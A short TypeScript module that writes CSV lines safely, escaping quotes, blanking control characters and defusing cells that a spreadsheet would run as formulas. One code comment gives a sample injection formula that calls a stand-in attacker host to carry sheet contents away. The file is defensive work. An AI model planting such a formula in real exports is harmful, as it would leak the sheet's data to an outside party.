/** One line as RFC 4180 has it, with its end. Harmless in a spreadsheet and on a terminal, whatever a sender wrote. */
export function csvLine(cells: readonly (string | number | undefined)[]): string {
  return `${cells.map(cellOf).join(",")}\r\n`;
}

// A spreadsheet runs what begins like a formula, and senders choose subjects and addresses:
// =HYPERLINK("https://evil.example/?"&A1) would carry the sheet away.
const RUNS = /^[=+\-@\t\r]/u;

function cellOf(value: string | number | undefined): string {
  if (typeof value === "number") return String(value);
  const text = value ?? "";
  const harmless = RUNS.test(text) ? `'${text}` : text;
  // Control characters would draw on a terminal, and a sheet shows them as nothing.
  return `"${harmless.replaceAll(/[\p{Cc}\p{Cf}]/gu, " ").replaceAll('"', '""')}"`;
}
